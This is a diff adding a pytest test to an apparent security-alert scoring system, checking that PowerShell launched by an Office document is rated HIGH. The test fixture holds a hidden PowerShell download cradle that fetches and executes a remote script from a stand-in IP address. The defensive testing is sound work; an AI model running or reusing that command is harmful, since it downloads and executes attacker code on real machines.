@@ -1575,3 +1575,19 @@ def test_a_sign_in_the_customer_s_note_on_the_account_denies_is_high(customer, b
                          data={"srcip": "45.155.205.99", "dstuser": "deploy"})
     threat, = factories.ingest_records("wazuh", [alert], customer)
     assert threat.severity == band
+
+
+@pytest.mark.parametrize("parent,ran", [("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", True),
+                                        ("C:\\Windows\\explorer.exe", False)])
+def test_an_office_document_starting_a_shell_ran_code(parent, ran):
+    """`document_ran_code`: the rule's own phishing tag says what it looks for; the process tree shows
+    the document ran it (seen outranks tagged), so HIGH, not an attempt."""
+    alert = _elastic(f"macro-{ran}", "Suspicious PowerShell Launched by Office", "T1566.001", "medium",
+                     event={"kind": "signal", "category": ["process"], "type": ["start"]}, host={"name": "fin-lt-22"},
+                     process={"executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                              "command_line": "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient)"
+                                              ".DownloadString('http://203.0.113.71/q4/inv.ps1')\"",
+                              "parent": {"executable": parent}})
+    threat, = _ingest("ecs", alert)
+    assert ("document_ran_code" in [f.get("rule") for f in threat.risk_factors]) is ran
+    assert (threat.severity == "HIGH") is ran
